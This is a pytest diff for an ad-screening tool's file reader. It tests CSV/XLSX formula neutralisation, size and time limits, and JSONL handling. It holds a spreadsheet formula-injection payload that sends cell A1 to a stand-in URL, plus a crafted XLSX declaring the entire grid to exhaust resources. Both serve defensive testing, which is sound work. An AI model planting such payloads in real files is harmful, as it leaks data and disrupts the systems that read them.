@@ -5,6 +5,8 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
+import time
 import zipfile
 
 import openpyxl
@@ -80,7 +82,7 @@ def test_xlsx_round_trip_and_an_ad_is_never_a_formula():
     assert head[:2] == ["Nội dung", "Nguồn"] and head[2:] == list(nf.ADDED)
     assert rows[1][head.index("level")] == "high_risk"
     formula_cell = back["Ads"].cell(row=3, column=1)
-    assert formula_cell.data_type == "s" and formula_cell.value.startswith("=")
+    assert formula_cell.data_type == "s" and formula_cell.value.startswith("'=")  # neutralised, kept
     assert rows[3][head.index("error")] == nf.ROW_EMPTY
 
 
@@ -146,3 +148,122 @@ def test_output_names_and_types():
     assert nf.output_name("Quảng cáo tháng 3.xlsx", "xlsx") == "Quảng cáo tháng 3.checked.xlsx"
     assert nf.format_of("x.TSV") == "csv" and nf.format_of("x.ndjson") == "jsonl"
     assert nf.format_of(None, "text/csv") == "csv"
+
+
+# ---------------------------------------------------------------- issue 13
+HYPERLINK = '=HYPERLINK("http://x/?"&A1,"Click")'
+
+
+def _xlsx(rows: list[list], dimension: str | None = None, extra_rows: str = "") -> bytes:
+    """An XLSX written by openpyxl, then its sheet XML edited: a declared <dimension ref> and extra raw rows."""
+    wb = openpyxl.Workbook()
+    for r in rows:
+        wb.active.append(r)
+    for row in wb.active.iter_rows():
+        for c in row:
+            if isinstance(c.value, str):
+                c.data_type = "s"  # a string that looks like a formula stays a string, as a pasted ad would
+    buf = io.BytesIO()
+    wb.save(buf)
+    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
+        for info in src.infolist():
+            data = src.read(info.filename)
+            if info.filename == "xl/worksheets/sheet1.xml":
+                xml = data.decode()
+                if dimension:
+                    xml = re.sub(r'<dimension ref="[^"]*"/>', f'<dimension ref="{dimension}"/>', xml)
+                xml = xml.replace("</sheetData>", extra_rows + "</sheetData>")
+                data = xml.encode()
+            z.writestr(info, data)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_every_string_cell_is_neutralised_original_columns_included(fmt):
+    header = ["id", "source", "text"]
+    body = [["1", HYPERLINK, LURES["vi"]], ["2", "@channel", "-" + LEGIT["en"]], ["3", "\tx", "+84 912 345 678 Zalo"]]
+    if fmt == "csv":
+        src = io.StringIO()
+        csv.writer(src).writerows([header, *body])
+        data = src.getvalue().encode()
+    else:
+        data = _xlsx([header, *body])
+    sheet, out = run(data, f"ads.{fmt}")
+    if fmt == "csv":
+        rows = [list(r.values()) for r in csv_rows(out)]
+    else:
+        ws = openpyxl.load_workbook(io.BytesIO(out)).active
+        assert all(c.data_type != "f" for r in ws.iter_rows() for c in r)
+        rows = [[c.value for c in r] for r in ws.iter_rows(min_row=2)]
+    cells = [c for r in rows for c in r if isinstance(c, str)]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    assert rows[0][1] == "'" + HYPERLINK and rows[1][1] == "'@channel" and rows[1][2].startswith("'-")
+
+
+def test_xlsx_ignores_a_declared_size_smaller_than_the_sheet():
+    data = _xlsx([["id", "text"], *[[i, ad] for i, ad in enumerate((list(LURES.values()) + [LEGIT["en"]] * 5)[:5])]],
+                 dimension="A1:A2")
+    sheet = nf.read(data, "ads.xlsx")
+    assert sheet.ads == 5 and sheet.text_column == "text"
+
+
+def test_a_hostile_xlsx_declaring_the_whole_grid_is_refused_quickly():
+    far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
+    data = _xlsx([["text"], [LURES["en"]]], dimension="A1:XFD1048576", extra_rows=far)
+    assert len(data) < 10_000
+    started = time.monotonic()
+    with pytest.raises(nf.FileProblem, match="rows"):
+        nf.read(data, "ads.xlsx")
+    assert time.monotonic() - started < 20
+    # a row far right is read without its thousands of empty cells
+    wide = '<row r="3"><c r="A3" t="inlineStr"><is><t>' + LEGIT["en"] + '</t></is></c>' \
+           '<c r="XFD3" t="inlineStr"><is><t>far</t></is></c></row>'
+    sheet = nf.read(_xlsx([["text"], [LURES["en"]]], dimension="A1:XFD3", extra_rows=wide), "ads.xlsx")
+    assert sheet.ads == 2 and all(len(r.cells) <= nf.MAX_XLSX_COLS for r in sheet.rows)
+
+
+def test_xlsx_reading_has_a_wall_clock_limit(monkeypatch):
+    monkeypatch.setattr(nf, "XLSX_TIMEOUT", 0.001)
+    with pytest.raises(nf.FileProblem, match="too long"):
+        nf.read(_xlsx([["text"], [LURES["en"]]]), "ads.xlsx")
+
+
+def test_jsonl_keeps_the_ngos_own_fields_and_splits_at_newlines_only():
+    obj = {"text": LURES["vi"] + " \u2028 nối \u2029 tiếp", "lang": "vi-VN", "level": "their-label", "error": "none"}
+    data = (json.dumps(obj, ensure_ascii=False) + "\n" + json.dumps({"text": LEGIT["en"]}) + "\n").encode()
+    sheet, out = run(data, "ads.jsonl")
+    assert sheet.ads == 2 and not any(r.error for r in sheet.rows)
+    lines = [json.loads(x) for x in out.decode().split("\n") if x]
+    assert len(lines) == 2
+    first = lines[0]
+    assert (first["lang"], first["level"], first["error"]) == ("vi-VN", "their-label", "none")
+    assert first["lurecheck_level"] == "high_risk" and first["lurecheck_lang"] == "vi" and "score" in first
+    assert "lurecheck_level" not in lines[1] and lines[1]["level"] in ("low_risk", "suspicious")
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_a_headerless_file_keeps_its_short_first_ad(fmt):
+    ads = ["Tuyển gấp, Zalo 0912345678", LURES["vi"], LEGIT["vi"]]
+    if fmt == "csv":
+        data = ("\n".join(a.replace(",", " ") for a in ads) + "\n").encode()
+    else:
+        data = _xlsx([[a] for a in ads])
+    sheet = nf.read(data, f"ads.{fmt}")
+    assert not sheet.had_header and sheet.ads == 3
+    assert sheet.rows[0].text.startswith("Tuyển gấp")
+    # a real header is still one, named or not
+    assert nf.read(("Nội dung\n" + LURES["vi"].replace(",", " ") + "\n").encode(), "a.csv").ads == 1
+    assert nf.read(("Quảng cáo\n" + LURES["vi"].replace(",", " ") + "\n").encode(), "a.csv").ads == 1
+
+
+def test_a_truncated_ad_is_marked():
+    long_ad = LURES["en"] + " " + "x" * 25_000
+    src = io.StringIO()
+    csv.writer(src).writerows([["text"], [long_ad], [LEGIT["en"]]])
+    _sheet, out = run(src.getvalue().encode(), "ads.csv")
+    rows = csv_rows(out)
+    assert rows[0]["truncated"] == "True" and rows[1]["truncated"] == "False"
+    _sheet, out = run(f"{long_ad}\n\n{LEGIT['en']}".encode(), "ads.txt")
+    assert out.decode().count("[LureCheck] truncated") == 1
